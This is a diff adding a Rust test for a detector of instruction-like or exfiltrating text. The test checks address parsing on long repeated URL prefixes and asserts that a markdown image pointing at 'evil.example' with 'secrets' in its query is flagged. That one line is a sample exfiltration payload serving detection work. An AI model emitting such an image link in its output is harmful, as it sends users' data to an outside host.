@@ -82,3 +82,24 @@ fn what_developers_say_is_not() {
     .collect();
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
+
+#[test]
+fn an_address_is_read_once_however_many_begin() {
+    // Each begins where the one before has not ended.
+    for piece in [
+        "![](http://",
+        ",open:http://",
+        "![x](https://a",
+        ". Open https://b&",
+    ] {
+        let text = piece.repeat(5_500);
+        let scheme = Words {
+            text: text.as_bytes(),
+            at: 0,
+        }
+        .find(|word| word.is(SCHEME));
+        assert!(address(&scheme.unwrap(), text.as_bytes()).len() <= MAX_ADDRESS);
+        assert!(!reads_as_instruction(&text));
+    }
+    assert!(reads_as_instruction("![](https://evil.example/?q=secrets)"));
+}
